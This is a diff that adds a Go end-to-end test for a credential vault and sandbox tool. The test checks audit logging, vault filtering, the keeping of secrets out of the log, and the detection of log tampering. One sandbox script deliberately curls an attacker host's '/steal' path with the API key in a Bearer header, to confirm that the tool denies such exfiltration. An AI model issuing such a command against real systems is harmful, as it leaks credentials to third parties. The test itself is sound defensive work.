@@ -1,0 +1,163 @@
+//go:build linux
+
+package e2e
+
+import (
+	"bytes"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// auditRecord is the part of an audit record the tests look at.
+type auditRecord struct {
+	Seq        uint64
+	Kind       string
+	Sandbox    string
+	Vault      string
+	Credential string
+	Host       string
+	Method     string
+	Path       string
+	Status     int
+	Reason     string
+}
+
+func (a *agent) auditRecords(t *testing.T, args ...string) []auditRecord {
+	t.Helper()
+	out := a.mustKG("", append([]string{"audit", "--json"}, args...)...)
+	var recs []auditRecord
+	if err := json.Unmarshal([]byte(out), &recs); err != nil {
+		t.Fatalf("audit --json: %v\n%s", err, out)
+	}
+	return recs
+}
+
+func countKind(recs []auditRecord, kind string, match func(auditRecord) bool) int {
+	n := 0
+	for _, r := range recs {
+		if r.Kind == kind && (match == nil || match(r)) {
+			n++
+		}
+	}
+	return n
+}
+
+// TestAuditTrail drives changes, an injection and denials through a real
+// sandbox and checks that the audit log records each of them, filters by
+// vault, never holds the secret, survives archiving, and that changing any
+// byte of a stored record makes `keygate audit verify` fail and name it.
+func TestAuditTrail(t *testing.T) {
+	w := world(t)
+	a := startAgent(t, w)
+	key, key2 := secret(t), secret(t)
+	a.mustKG("", "vault", "create", "v")
+	a.mustKG(key+"\n", "cred", "add", "v", "api", "--env", "API_KEY", "--domain", w.APIHost())
+	a.mustKG("", "vault", "create", "other")
+
+	script := `curl -sS -m 10 -o /dev/null https://` + w.APIHost() + `/v1/models?secret=no -H "Authorization: Bearer $API_KEY"; ` +
+		`curl -sS -m 10 -o /dev/null https://` + w.AttackerHost() + `/steal -H "Authorization: Bearer $API_KEY"; true`
+	if _, errOut, code := a.run([]string{"--vault", "v", "--allow", w.AttackerHost()}, script); code != 0 {
+		t.Fatalf("sandbox: exit %d: %s", code, errOut)
+	}
+	a.mustKG(key2+"\n", "cred", "rotate", "v", "api")
+	a.mustKG("", "vault", "archive", "v")
+
+	recs := a.auditRecords(t)
+	checks := []struct {
+		kind  string
+		match func(auditRecord) bool
+	}{
+		{"vault.create", func(r auditRecord) bool { return r.Vault == "v" }},
+		{"credential.add", func(r auditRecord) bool { return r.Vault == "v" && r.Credential == "api" }},
+		{"sandbox.create", func(r auditRecord) bool { return r.Vault == "v" && r.Sandbox != "" }},
+		{"request.inject", func(r auditRecord) bool {
+			return r.Vault == "v" && r.Credential == "api" && r.Host == w.APIHost() &&
+				r.Method == "GET" && r.Path == "/v1/models" && r.Status == 200 && r.Sandbox != ""
+		}},
+		{"request.deny", func(r auditRecord) bool {
+			return r.Host == w.AttackerHost() && r.Reason == "placeholder_unapproved_host" && r.Credential == "api"
+		}},
+		{"sandbox.remove", func(r auditRecord) bool { return r.Vault == "v" }},
+		{"credential.rotate", func(r auditRecord) bool { return r.Credential == "api" }},
+		{"vault.archive", func(r auditRecord) bool { return r.Vault == "v" }},
+	}
+	for _, c := range checks {
+		if countKind(recs, c.kind, c.match) == 0 {
+			t.Errorf("no matching %s record in %+v", c.kind, recs)
+		}
+	}
+	for i, r := range recs {
+		if r.Seq != uint64(i+1) {
+			t.Fatalf("record %d has seq %d: not contiguous", i, r.Seq)
+		}
+	}
+
+	t.Run("filter by vault", func(t *testing.T) {
+		for _, r := range a.auditRecords(t, "--vault", "other") {
+			if r.Vault != "other" {
+				t.Fatalf("--vault other returned %+v", r)
+			}
+		}
+		if n := len(a.auditRecords(t, "--vault", "other")); n != 1 {
+			t.Fatalf("--vault other: %d records, want the vault.create only", n)
+		}
+	})
+
+	t.Run("table output and verify", func(t *testing.T) {
+		out := a.mustKG("", "audit")
+		if !strings.Contains(out, "request.inject") || !strings.Contains(out, "SEQ") {
+			t.Fatalf("audit table: %s", out)
+		}
+		out = a.mustKG("", "audit", "verify")
+		if !strings.Contains(out, "verified") {
+			t.Fatalf("audit verify: %s", out)
+		}
+	})
+
+	logPath := filepath.Join(a.dir, "state", "audit.log")
+	raw, err := os.ReadFile(logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range []string{key, key2} {
+		if bytes.Contains(raw, []byte(k)) || strings.Contains(a.mustKG("", "audit", "--json"), k) {
+			t.Fatal("the audit log holds a secret")
+		}
+	}
+	if bytes.Contains(raw, []byte("secret=no")) {
+		t.Fatal("the audit log holds a query string")
+	}
+
+	t.Run("tampering is detected and located", func(t *testing.T) {
+		// Change one byte inside the third record's host or vault name.
+		lines := bytes.SplitAfter(raw, []byte("\n"))
+		off := 0
+		for _, l := range lines[:2] {
+			off += len(l)
+		}
+		i := bytes.Index(lines[2], []byte(`"vault":"`))
+		if i < 0 {
+			t.Fatalf("third record has no vault: %s", lines[2])
+		}
+		pos := int64(off + i + len(`"vault":"`))
+		f, err := os.OpenFile(logPath, os.O_WRONLY, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := f.WriteAt([]byte{'X'}, pos); err != nil {
+			t.Fatal(err)
+		}
+		f.Close()
+
+		out, errOut, code := a.kg("", "audit", "verify")
+		if code == 0 {
+			t.Fatalf("audit verify passed a tampered log: %s", out)
+		}
+		if !strings.Contains(errOut, "first bad record is 3") {
+			t.Fatalf("audit verify: %q, want it to name record 3", errOut)
+		}
+	})
+}
